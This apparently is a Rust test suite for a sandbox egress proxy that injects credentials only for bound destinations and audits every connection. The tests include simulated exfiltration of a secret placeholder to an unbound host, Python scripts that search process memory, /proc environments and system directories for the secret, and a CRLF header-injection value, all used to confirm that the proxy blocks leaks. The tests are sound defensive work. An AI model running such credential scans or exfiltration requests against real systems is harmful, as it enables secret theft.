//! Egress secrets and the egress audit (issue 38, I13, I22, I23): a credential a sandbox
//! never holds, presented by warren's proxy only to the destinations it is bound to, and a
//! record of every connection.
//!
//! Destinations are test hosts in network namespaces of their own (see `network.rs`), each
//! serving plain HTTP on its port and HTTPS one thousand above it, with a certificate from
//! a CA this test makes (which the server trusts through `network.upstream_ca`), and
//! writing every request head they receive to a file the test reads.

use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::json;
use warren_test_support::TestServer;

use super::conformance::Host;
use super::network::{fetch, sandbox_with, Subnet, TestHost};
use super::output as out;

/// Serves plain HTTP on its port and HTTPS (with `cert`/`key`) one thousand above it,
/// appending each request head to `log`; answers every request with `body`.
const RECORDING_SERVER: &str = r#"
import os, socket, ssl, sys, threading
address, port, body, cert, key, log, accepts = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode(), sys.argv[4], sys.argv[5], sys.argv[6], sys.argv[-1]
lock = threading.Lock()
count = [0]
def write_count():
    with open(accepts + ".new", "w") as f:
        f.write(str(count[0]))
    os.replace(accepts + ".new", accepts)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(cert, key)
def handle(c, tls):
    try:
        c.settimeout(10)
        if tls:
            c = context.wrap_socket(c, server_side=True)
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = c.recv(4096)
            if not chunk:
                return
            head += chunk
        with lock:
            with open(log, "ab") as f:
                f.write(head.split(b"\r\n\r\n")[0] + b"\n==\n")
        c.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\nconnection: close\r\n\r\n" % len(body) + body)
    except Exception:
        pass
    finally:
        c.close()
def serve(listener, tls):
    while True:
        c, _ = listener.accept()
        with lock:
            count[0] += 1
            write_count()
        threading.Thread(target=handle, args=(c, tls), daemon=True).start()
listeners = []
for p in (port, port + 1000):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((address, p))
    s.listen(64)
    listeners.append(s)
write_count()
threading.Thread(target=serve, args=(listeners[1], True), daemon=True).start()
serve(listeners[0], False)
"#;

/// A throwaway CA, and per address a server certificate it signed.
struct Pki {
    dir: tempfile::TempDir,
    issuer: rcgen::Issuer<'static, rcgen::KeyPair>,
}

impl Pki {
    fn new() -> Self {
        use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, KeyPair, KeyUsagePurpose};
        let dir = tempfile::tempdir().unwrap();
        let key = KeyPair::generate().unwrap();
        let mut ca = CertificateParams::new(Vec::<String>::new()).unwrap();
        ca.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        ca.distinguished_name
            .push(DnType::CommonName, "warren egress test upstream CA");
        ca.key_usages = vec![KeyUsagePurpose::KeyCertSign, KeyUsagePurpose::CrlSign];
        let cert = ca.self_signed(&key).unwrap();
        std::fs::write(dir.path().join("ca.pem"), cert.pem()).unwrap();
        Self {
            dir,
            issuer: rcgen::Issuer::new(ca, key),
        }
    }

    fn ca_path(&self) -> String {
        self.dir.path().join("ca.pem").display().to_string()
    }

    /// Writes `<address>.pem` and `<address>.key` for a server at `address`.
    fn server(&self, address: &str) -> (String, String) {
        let key = rcgen::KeyPair::generate().unwrap();
        let mut params = rcgen::CertificateParams::new(vec![address.to_owned()]).unwrap();
        params.extended_key_usages = vec![rcgen::ExtendedKeyUsagePurpose::ServerAuth];
        let cert = params.signed_by(&key, &self.issuer).unwrap();
        let (cert_path, key_path) = (
            self.dir.path().join(format!("{address}.pem")),
            self.dir.path().join(format!("{address}.key")),
        );
        std::fs::write(&cert_path, cert.pem()).unwrap();
        std::fs::write(&key_path, key.serialize_pem()).unwrap();
        (
            cert_path.display().to_string(),
            key_path.display().to_string(),
        )
    }
}

/// A test host serving HTTP and HTTPS and recording what it receives.
struct Destination {
    host: TestHost,
    log: std::path::PathBuf,
    _dir: tempfile::TempDir,
}

impl Destination {
    async fn start(pki: &Pki, body: &str) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("requests");
        std::fs::write(&log, b"").unwrap();
        let log_arg = log.display().to_string();
        let host = TestHost::start_serving(Subnet::Global, RECORDING_SERVER, |address| {
            let (cert, key) = pki.server(address);
            vec![body.to_owned(), cert, key, log_arg]
        })
        .await;
        Self {
            host,
            log,
            _dir: dir,
        }
    }

    fn http(&self, path: &str) -> String {
        format!("http://{}:{}{path}", self.host.address, self.host.port)
    }

    fn https(&self, path: &str) -> String {
        format!(
            "https://{}:{}{path}",
            self.host.address,
            self.host.port + 1000
        )
    }

    /// The request heads it received, oldest first.
    fn requests(&self) -> Vec<String> {
        let text = std::fs::read_to_string(&self.log).unwrap();
        text.split("\n==\n")
            .filter(|head| !head.is_empty())
            .map(str::to_owned)
            .collect()
    }
}

/// Sets `uid`'s secret `name` bound to `host` on `ports`, presented as a bearer token.
async fn set_secret(
    server: &TestServer,
    name: &str,
    host: &str,
    ports: &[u16],
    value: &str,
) -> u16 {
    let (status, body) = server
        .send_json(
            server
                .request(Method::PUT, &format!("/v1/users/alice/secrets/{name}"))
                .json(&json!({
                    "targets": [{"host": host, "ports": ports, "path_prefix": "/v1/"}],
                    "present": {"type": "bearer"},
                    "value": value,
                })),
        )
        .await;
    assert!(status == 201 || status == 200, "{status}: {body}");
    assert!(
        !body.to_string().contains(value),
        "a read showed the value: {body}"
    );
    status
}

/// The sandbox's egress audit once it holds at least `count` records that match (it is
/// written behind the connections, so it is polled until then).
async fn audit_until(
    server: &TestServer,
    id: &str,
    count: usize,
    matches: impl Fn(&serde_json::Value) -> bool,
) -> Vec<serde_json::Value> {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let (status, body) = server
            .send_json(server.request(Method::GET, &format!("/v1/sandboxes/{id}/egress")))
            .await;
        assert_eq!(status, 200, "{body}");
        let connections = body["connections"].as_array().unwrap().clone();
        let matching = connections.iter().filter(|c| matches(c)).count();
        if matching >= count {
            return connections;
        }
        assert!(
            Instant::now() < deadline,
            "the audit holds {matching} such records, not {count}: {body}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Python that prints the body of a GET (or `HTTP <status> <message>`), then searches its
/// own memory for the value whose reverse is `reversed` and whose SHA-256 is `digest`:
/// `clean` when no copy of it is there. The value itself never appears in the command.
fn fetch_and_search_memory(url: &str, reversed: &str, digest: &str) -> String {
    format!(
        r#"python3 -c "
import hashlib, re, urllib.request, urllib.error
try: print(urllib.request.urlopen('{url}', timeout=20).read().decode())
except urllib.error.HTTPError as e: print('HTTP', e.code, e.read().decode().strip())
except Exception as e: print('FAILED', e)
prefix = '{reversed}'[::-1][:12].encode()
found = 0
for line in open('/proc/self/maps'):
    fields = line.split()
    if 'r' not in fields[1] or fields[-1].startswith('[v'):
        continue
    start, end = (int(x, 16) for x in fields[0].split('-'))
    try:
        with open('/proc/self/mem', 'rb') as mem:
            mem.seek(start)
            chunk = mem.read(end - start)
    except OSError:
        continue
    for m in re.finditer(re.escape(prefix), chunk):
        window = chunk[m.start():m.start() + {length}]
        if hashlib.sha256(window).hexdigest() == '{digest}':
            found += 1
print('clean' if found == 0 else 'FOUND %d' % found)
""#,
        length = reversed.len()
    )
}

/// Python that searches every file a sandbox user can read in the usual places, and every
/// process's environment and command line, for the value given reversed: prints the
/// places holding it.
fn search_files(reversed: &str) -> String {
    format!(
        r#"python3 -c "
import os
needle = '{reversed}'[::-1].encode()
me = str(os.getpid())
hits = []
for pid in os.listdir('/proc'):
    if pid.isdigit() and pid != me:
        for part in ('environ', 'cmdline'):
            try:
                if needle in open('/proc/%s/%s' % (pid, part), 'rb').read():
                    hits.append('/proc/%s/%s' % (pid, part))
            except OSError:
                pass
for top in ('/tmp', os.path.expanduser('~'), '/home', '/mnt', '/etc', '/run'):
    for root, dirs, files in os.walk(top):
        for name in files:
            path = os.path.join(root, name)
            try:
                if needle in open(path, 'rb').read(1 << 22):
                    hits.append(path)
            except OSError:
                pass
print('hits:', sorted(set(hits)))
""#
    )
}

pub(crate) async fn an_egress_secret_reaches_only_its_destination_and_never_the_sandbox(
    host: Host,
) {
    let pki = Pki::new();
    let bound = Destination::start(&pki, "bound-host").await;
    let other = Destination::start(&pki, "other-host").await;
    let config = format!("[network]\nupstream_ca = {:?}\n", pki.ca_path());
    let server = host.start_configured(&config, &[]);
    let value = format!("wrn-real-{}", uuid_like());
    let reversed: String = value.chars().rev().collect();
    let digest = sha256_hex(value.as_bytes());
    let (https_port, http_port) = (bound.host.port + 1000, bound.host.port);
    set_secret(
        &server,
        "API_TOKEN",
        &bound.host.address,
        &[https_port, http_port],
        &value,
    )
    .await;
    let id = sandbox_with(
        &server,
        "secrets",
        json!({"mode": "allowlist", "allow": [bound.host.address, other.host.address]}),
    )
    .await;

    // Inside, the variable holds a placeholder, not the value.
    let env = server
        .exec(&id, "printf %s \"$WARREN_SECRET_API_TOKEN\"")
        .await;
    let placeholder = out(&env).to_owned();
    assert!(placeholder.starts_with("warren-secret-"), "{env}");

    // HTTPS to the bound destination: the proxy terminates TLS with the sandbox's own
    // authority (the client's default trust store accepts it) and presents the value.
    let result = server
        .exec(
            &id,
            &fetch_and_search_memory(&bound.https("/v1/repos"), &reversed, &digest),
        )
        .await;
    assert_eq!(out(&result), "bound-host\nclean\n", "{result}");
    let heads = bound.requests();
    assert_eq!(heads.len(), 1, "{heads:?}");
    assert!(heads[0].starts_with("GET /v1/repos HTTP/1.1"), "{heads:?}");
    assert!(
        heads[0].contains(&format!("Authorization: Bearer {value}")),
        "the destination did not get the credential: {heads:?}"
    );

    // Plain HTTP, the placeholder where the client put it: replaced there.
    let result = server
        .exec(
            &id,
            &fetch(&bound.http("/v1/q?key=$WARREN_SECRET_API_TOKEN")),
        )
        .await;
    assert_eq!(out(&result).trim(), "bound-host", "{result}");
    let heads = bound.requests();
    assert!(
        heads[1].starts_with(&format!("GET /v1/q?key={value} HTTP/1.1")),
        "{heads:?}"
    );

    // The placeholder sent anywhere else is refused before any connection: a
    // prompt-injected request carries nothing, and the other host sees nothing.
    let exfiltrated = server
        .exec(&id, &fetch(&other.http("/?k=$WARREN_SECRET_API_TOKEN")))
        .await;
    assert!(out(&exfiltrated).starts_with("HTTP 403"), "{exfiltrated}");
    assert!(
        out(&exfiltrated).contains("placeholder of secret API_TOKEN"),
        "{exfiltrated}"
    );
    // ... and to the bound host outside the bound path prefix, over HTTPS too.
    let outside = server
        .exec(
            &id,
            &fetch(&bound.https("/admin?k=$WARREN_SECRET_API_TOKEN")),
        )
        .await;
    assert!(out(&outside).starts_with("HTTP 403"), "{outside}");
    assert_eq!(other.host.accepts(), 0, "the other host saw a connection");
    assert_eq!(bound.requests().len(), 2, "a refused request arrived");

    // An unbound HTTPS destination is a tunnel, never intercepted: the client sees the
    // destination's own certificate (checked against the test CA only).
    server
        .exec(
            &id,
            &format!(
                "cat > test-ca.pem <<'EOF'\n{}EOF",
                std::fs::read_to_string(pki.ca_path()).unwrap()
            ),
        )
        .await;
    let tunnel = format!(
        r#"python3 -c "
import socket, ssl
s = socket.create_connection(('127.0.0.1', 3128))
s.sendall(b'CONNECT {a}:{p} HTTP/1.1\r\nHost: {a}\r\n\r\n')
s.recv(100)
t = ssl.create_default_context(cafile='test-ca.pem').wrap_socket(s, server_hostname='{a}')
print(dict(x[0] for x in t.getpeercert()['issuer'])['commonName'])
t.sendall(b'GET / HTTP/1.1\r\nHost: {a}\r\n\r\n')
print(t.recv(1000).decode().split('\r\n\r\n')[-1])
""#,
        a = other.host.address,
        p = other.host.port + 1000
    );
    let tunneled = server.exec(&id, &tunnel).await;
    assert_eq!(
        out(&tunneled),
        "warren egress test upstream CA\nother-host\n",
        "{tunneled}"
    );
    assert!(
        !other.requests()[0].contains("Authorization"),
        "{:?}",
        other.requests()
    );

    // Nothing the sandbox can read holds the value.
    let searched = server.exec(&id, &search_files(&reversed)).await;
    assert_eq!(out(&searched), "hits: []\n", "{searched}");

    // Rotation takes effect on the next request.
    let rotated = format!("wrn-rotated-{}", uuid_like());
    assert_eq!(
        set_secret(
            &server,
            "API_TOKEN",
            &bound.host.address,
            &[https_port, http_port],
            &rotated
        )
        .await,
        200
    );
    let result = server.exec(&id, &fetch(&bound.https("/v1/again"))).await;
    assert_eq!(out(&result).trim(), "bound-host", "{result}");
    let heads = bound.requests();
    assert!(
        heads[2].contains(&format!("Authorization: Bearer {rotated}")),
        "{heads:?}"
    );

    // The audit lists every connection of the run, with what decided it. Each connection
    // that carried anything was recorded as it opened, before a byte went through, and
    // again as it ended; the ends are read in the order the connections began.
    let ended = |c: &serde_json::Value| c.get("ended_at").is_some();
    let records = audit_until(&server, &id, 6, ended).await;
    let (mut connections, openings): (Vec<_>, Vec<_>) =
        records.iter().cloned().partition(|c| ended(c));
    let allowed: Vec<&serde_json::Value> = connections
        .iter()
        .filter(|c| c["verdict"] == "allowed")
        .collect();
    assert_eq!(openings.len(), allowed.len(), "{records:#?}");
    for end in allowed {
        let opening = openings
            .iter()
            .find(|o| o["connection"] == end["connection"])
            .unwrap_or_else(|| panic!("no opening of {end}: {records:#?}"));
        assert!(opening["id"].as_i64() < end["id"].as_i64(), "{records:#?}");
        assert_eq!(
            (
                &opening["at"],
                &opening["host"],
                &opening["port"],
                &opening["bytes_out"],
                &opening["bytes_in"]
            ),
            (&end["at"], &end["host"], &end["port"], &json!(0), &json!(0)),
            "{records:#?}"
        );
    }
    connections.sort_by_key(|c| (c["at"].as_str().unwrap().to_owned(), c["id"].as_i64()));
    let summary: Vec<(String, String, String, bool, Vec<String>)> = connections
        .iter()
        .map(|c| {
            (
                format!("{}:{}", c["host"].as_str().unwrap(), c["port"]),
                c["verdict"].as_str().unwrap().to_owned(),
                c["rule"].as_str().unwrap().to_owned(),
                c["intercepted"].as_bool().unwrap(),
                c["secrets"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|s| s.as_str().unwrap().to_owned())
                    .collect(),
            )
        })
        .collect();
    let (b, o) = (&bound.host.address, &other.host.address);
    let op = other.host.port + 1000;
    let secret = vec!["API_TOKEN".to_owned()];
    assert_eq!(
        summary,
        vec![
            (
                format!("{b}:{https_port}"),
                "allowed".into(),
                "allowlist".into(),
                true,
                secret.clone()
            ),
            (
                format!("{b}:{http_port}"),
                "allowed".into(),
                "allowlist".into(),
                false,
                secret.clone()
            ),
            (
                format!("{o}:{}", other.host.port),
                "refused".into(),
                "placeholder".into(),
                false,
                vec![]
            ),
            (
                format!("{b}:{https_port}"),
                "refused".into(),
                "placeholder".into(),
                true,
                vec![]
            ),
            (
                format!("{o}:{op}"),
                "allowed".into(),
                "allowlist".into(),
                false,
                vec![]
            ),
            (
                format!("{b}:{https_port}"),
                "allowed".into(),
                "allowlist".into(),
                true,
                secret
            ),
        ],
        "{connections:#?}"
    );
    assert!(connections[0]["bytes_in"].as_u64().unwrap() > 0);

    // A connection still open is in the audit already: its opening, with no end.
    let held = format!(
        r#"nohup python3 -c "
import socket, time
s = socket.create_connection(('127.0.0.1', 3128))
s.sendall(b'CONNECT {o}:{op} HTTP/1.1\r\nHost: {o}\r\n\r\n')
s.recv(100)
time.sleep(120)
" >/dev/null 2>&1 &"#
    );
    assert_eq!(server.exec(&id, &held).await["exit_code"], 0);
    let tunnel = format!("{o}:{op}");
    let is_held = |c: &serde_json::Value| {
        format!("{}:{}", c["host"].as_str().unwrap_or(""), c["port"]) == tunnel
            && !ended(c)
            && !records.iter().any(|r| r["connection"] == c["connection"])
    };
    let now = audit_until(&server, &id, 1, is_held).await;
    let open = now.iter().find(|c| is_held(c)).unwrap();
    assert_eq!(open["verdict"], "allowed", "{open}");
    assert!(
        !now.iter()
            .any(|c| c["connection"] == open["connection"] && ended(c)),
        "the held tunnel ended: {now:#?}"
    );
    // No read of the audit or the secrets shows the value.
    let (_, listed) = server
        .send_json(server.request(Method::GET, &format!("/v1/sandboxes/{id}/secrets")))
        .await;
    assert_eq!(listed["secrets"][0]["env"], "WARREN_SECRET_API_TOKEN");
    for text in [listed.to_string(), json!(now).to_string()] {
        assert!(!text.contains(&value) && !text.contains(&rotated), "{text}");
    }
}

fn uuid_like() -> String {
    let bytes: [u8; 16] = rand_bytes();
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn rand_bytes() -> [u8; 16] {
    let mut bytes = [0u8; 16];
    std::io::Read::read_exact(
        &mut std::fs::File::open("/dev/urandom").unwrap(),
        &mut bytes,
    )
    .unwrap();
    bytes
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest as _;
    hex::encode(sha2::Sha256::digest(bytes))
}

#[tokio::test]
async fn a_sandbox_is_created_with_its_own_secrets_which_end_with_it() {
    let server = super::runtime::local();
    server.workdir("alice", "projects/a").await;
    let target = json!([{"host": "api.example.com"}]);
    let put = |path: &str, body: serde_json::Value| {
        server.send_json(server.request(Method::PUT, path).json(&body))
    };
    let (status, _) = put(
        "/v1/users/alice/secrets/SHARED",
        json!({"targets": target, "present": {"type": "bearer"}, "value": "uid-level-value-1234"}),
    )
    .await;
    assert_eq!(status, 201);
    let create = json!({
        "uid": "alice", "runtime_scope_id": "s", "workdir": "projects/a",
        "network": {"mode": "open"},
        "secrets": [
            {"name": "SHARED", "targets": target, "present": {"type": "query", "name": "key"},
             "value": "sandbox-level-value-5678"},
            {"name": "OWN", "targets": target, "present": {"type": "basic", "username": "bot"},
             "value": "sandbox-only-value-90ab"},
        ],
    });
    let (status, body) = server
        .send_json(server.request(Method::POST, "/v1/sandboxes").json(&create))
        .await;
    assert_eq!(status, 201, "{body}");
    let id = body["sandbox_id"].as_str().unwrap().to_owned();
    let listed = || async {
        let (status, body) = server
            .send_json(server.request(Method::GET, &format!("/v1/sandboxes/{id}/secrets")))
            .await;
        assert_eq!(status, 200, "{body}");
        assert!(
            !body.to_string().contains("-value-"),
            "a value was shown: {body}"
        );
        body["secrets"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| {
                format!(
                    "{} {} {} {}",
                    s["name"].as_str().unwrap(),
                    s["scope"].as_str().unwrap(),
                    s["present"]["type"].as_str().unwrap(),
                    s["hint"].as_str().unwrap_or("-"),
                )
            })
            .collect::<Vec<_>>()
    };
    // The sandbox's own SHARED wins over its uid's; hints show four characters at most.
    assert_eq!(
        listed().await,
        ["OWN sandbox basic …90ab", "SHARED sandbox query …5678"]
    );
    // Inside: one placeholder per name, never a value.
    let env = server.exec(&id, "env | grep ^WARREN_SECRET_ | sort").await;
    let printed = out(&env).to_owned();
    let names: Vec<(&str, usize)> = printed
        .lines()
        .map(|line| {
            let (name, placeholder) = line.split_once('=').unwrap();
            assert!(placeholder.starts_with("warren-secret-"), "{env}");
            (name, placeholder.len())
        })
        .collect();
    assert_eq!(
        names,
        [("WARREN_SECRET_OWN", 46), ("WARREN_SECRET_SHARED", 46)],
        "{env}"
    );
    // Terminated, the sandbox's own secrets go; the uid's stays.
    let (status, _) = server
        .send_json(server.request(Method::POST, &format!("/v1/sandboxes/{id}/terminate")))
        .await;
    assert_eq!(status, 200);
    assert_eq!(listed().await, ["SHARED uid bearer …1234"]);
}

#[tokio::test]
async fn bad_secrets_get_clear_errors_and_change_nothing() {
    let server = super::runtime::local();
    let put = |name: &str, body: serde_json::Value| {
        server.send_json(
            server
                .request(Method::PUT, &format!("/v1/users/alice/secrets/{name}"))
                .json(&body),
        )
    };
    let good = || json!({"targets": [{"host": "h.example"}], "present": {"type": "bearer"}, "value": "a-good-value-123"});
    let mut bad = Vec::new();
    for (name, body) in [
        ("lower", good()),
        (
            "OK",
            json!({"targets": [], "present": {"type": "bearer"}, "value": "a-good-value-123"}),
        ),
        (
            "OK",
            json!({"targets": [{"host": "10.0.0.0/8"}], "present": {"type": "bearer"}, "value": "a-good-value-123"}),
        ),
        (
            "OK",
            json!({"targets": [{"host": "h.example", "path_prefix": "v1"}], "present": {"type": "bearer"}, "value": "a-good-value-123"}),
        ),
        (
            "OK",
            json!({"targets": [{"host": "h.example"}], "present": {"type": "header", "name": "Host"}, "value": "a-good-value-123"}),
        ),
        (
            "OK",
            json!({"targets": [{"host": "h.example"}], "present": {"type": "bearer"}, "value": "line\r\nX-Injected: 1"}),
        ),
        (
            "OK",
            json!({"targets": [{"host": "h.example"}], "present": {"type": "bearer"}, "value": "short"}),
        ),
    ] {
        let (status, body) = put(name, body).await;
        bad.push((
            status,
            body["error"]["code"].as_str().unwrap_or("").to_owned(),
        ));
    }
    assert!(
        bad.iter().all(|(s, c)| *s == 400 && c == "invalid_secret"),
        "{bad:?}"
    );
    let (status, body) = server
        .send_json(server.request(Method::GET, "/v1/users/alice/secrets"))
        .await;
    assert_eq!(
        (status, body["secrets"].as_array().unwrap().len()),
        (200, 0)
    );
    // Past the limit, a new one is refused; rotating one that exists is not.
    for n in 0..64 {
        let (status, _) = put(&format!("S{n}"), good()).await;
        assert_eq!(status, 201);
    }
    let (status, body) = put("S64", good()).await;
    assert_eq!(
        (status, body["error"]["code"].as_str()),
        (409, Some("egress_secrets_full"))
    );
    assert_eq!(put("S0", good()).await.0, 200);
    let (status, body) = server
        .send_json(server.request(Method::DELETE, "/v1/users/alice/secrets/NOPE"))
        .await;
    assert_eq!(
        (status, body["error"]["code"].as_str()),
        (404, Some("egress_secret_not_found"))
    );
    let (status, body) = server
        .send_json(server.request(
            Method::GET,
            "/v1/sandboxes/sbx-000000000000000000000000/egress",
        ))
        .await;
    assert_eq!(
        (status, body["error"]["code"].as_str()),
        (404, Some("sandbox_not_found"))
    );
}

/// A source script: counts its runs in `<dir>/<name>.count` and prints a value naming the
/// sandbox and the run, kept `expires_in` seconds.
fn source_script(dir: &std::path::Path, name: &str, expires_in: u64) -> String {
    use std::os::unix::fs::PermissionsExt;
    let count = dir.join(format!("{name}.count"));
    let path = dir.join(format!("{name}.sh"));
    std::fs::write(
        &path,
        format!(
            "#!/bin/sh\nn=$(( $(cat {count} 2>/dev/null || echo 0) + 1 ))\necho $n > {count}\n\
             printf '{{\"value\": \"{name}-%s-%s-%s\", \"expires_in\": {expires_in}}}' \"$WARREN_UID\" \"$WARREN_SANDBOX\" \"$n\"\n",
            count = count.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path.display().to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_from_a_source_is_minted_per_sandbox_and_kept_until_it_expires() {
    let pki = Pki::new();
    let bound = Destination::start(&pki, "bound-host").await;
    let scripts = tempfile::tempdir().unwrap();
    let config = format!(
        "[network.secret_sources.long]\ncommand = [{:?}]\n\n[network.secret_sources.short]\ncommand = [{:?}]\n",
        source_script(scripts.path(), "long", 3600),
        source_script(scripts.path(), "short", 0),
    );
    let server = Host::Local.start_configured(&config, &[]);
    let put = |name: &str, body: serde_json::Value| {
        server.send_json(
            server
                .request(Method::PUT, &format!("/v1/users/alice/secrets/{name}"))
                .json(&body),
        )
    };
    let targets = json!([{"host": bound.host.address, "ports": [bound.host.port]}]);
    let (status, body) = put(
        "LONG",
        json!({"targets": targets, "present": {"type": "bearer"}, "source": "long"}),
    )
    .await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(
        (body["source"].as_str(), body["length"].as_u64()),
        (Some("long"), Some(0))
    );
    let (status, _) = put(
        "SHORT",
        json!({"targets": targets, "present": {"type": "header", "name": "X-Short"}, "source": "short"}),
    )
    .await;
    assert_eq!(status, 201);
    // A source the operator did not configure, or a value beside a source: refused.
    for body in [
        json!({"targets": targets, "present": {"type": "bearer"}, "source": "nowhere"}),
        json!({"targets": targets, "present": {"type": "bearer"}, "source": "long", "value": "also-a-value"}),
        json!({"targets": targets, "present": {"type": "bearer"}}),
    ] {
        let (status, answer) = put("BAD", body).await;
        assert_eq!(
            (status, answer["error"]["code"].as_str()),
            (400, Some("invalid_secret")),
            "{answer}"
        );
    }
    let network = json!({"mode": "allowlist", "allow": [bound.host.address]});
    let first = sandbox_with(&server, "one", network.clone()).await;
    let second = sandbox_with(&server, "two", network).await;
    for id in [&first, &first, &second] {
        let result = server.exec(id, &fetch(&bound.http("/v1/x"))).await;
        assert_eq!(out(&result).trim(), "bound-host", "{result}");
    }
    let heads = bound.requests();
    let header = |head: &str, name: &str| -> String {
        head.lines()
            .find_map(|line| line.strip_prefix(&format!("{name}: ")))
            .unwrap_or_else(|| panic!("no {name} in {head}"))
            .to_owned()
    };
    // The long-lived value is minted once per sandbox and kept; the one that expires at
    // once is minted for every connection.
    assert_eq!(
        heads
            .iter()
            .map(|h| header(h, "Authorization"))
            .collect::<Vec<_>>(),
        [
            format!("Bearer long-alice-{first}-1"),
            format!("Bearer long-alice-{first}-1"),
            format!("Bearer long-alice-{second}-2"),
        ]
    );
    assert_eq!(
        heads
            .iter()
            .map(|h| header(h, "X-Short"))
            .collect::<Vec<_>>(),
        [
            format!("short-alice-{first}-1"),
            format!("short-alice-{first}-2"),
            format!("short-alice-{second}-3"),
        ]
    );
    // A connection the secrets are not bound to (the host's HTTPS port) runs no source:
    // the one whose value expires at once was run three times, no more.
    let minted =
        |name: &str| std::fs::read_to_string(scripts.path().join(format!("{name}.count"))).unwrap();
    server.exec(&first, &fetch(&bound.https("/v1/x"))).await;
    assert_eq!(
        (minted("long"), minted("short")),
        ("2\n".into(), "3\n".into())
    );
    // Nothing minted is stored or shown.
    let (_, listed) = server
        .send_json(server.request(Method::GET, "/v1/users/alice/secrets"))
        .await;
    assert!(!listed.to_string().contains("alice-sbx"), "{listed}");
}
